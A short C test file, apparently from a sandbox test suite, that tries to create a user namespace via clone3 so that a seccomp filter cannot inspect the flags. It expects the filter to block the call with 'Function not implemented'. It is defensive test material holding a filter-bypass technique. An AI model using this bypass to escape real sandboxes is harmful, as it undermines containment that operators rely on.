// attack: as unshare_user, by a call whose flags no filter can see
// stopped: says stopped: Function not implemented
// layers: filter
// lift: filter
// evidence: word
#include "attack.h"
#include <linux/sched.h>

int main(void) {
    struct clone_args how = {.flags = CLONE_NEWUSER | CLONE_NEWUTS, .exit_signal = SIGCHLD};
    pid_t child = must(syscall(SYS_clone3, &how, sizeof how));
    if (child == 0) {
        must(sethostname("mine", 4));
        puts("reached a right of root over a namespace of its own");
        return 0;
    }
    must(waitpid(child, NULL, 0));
}
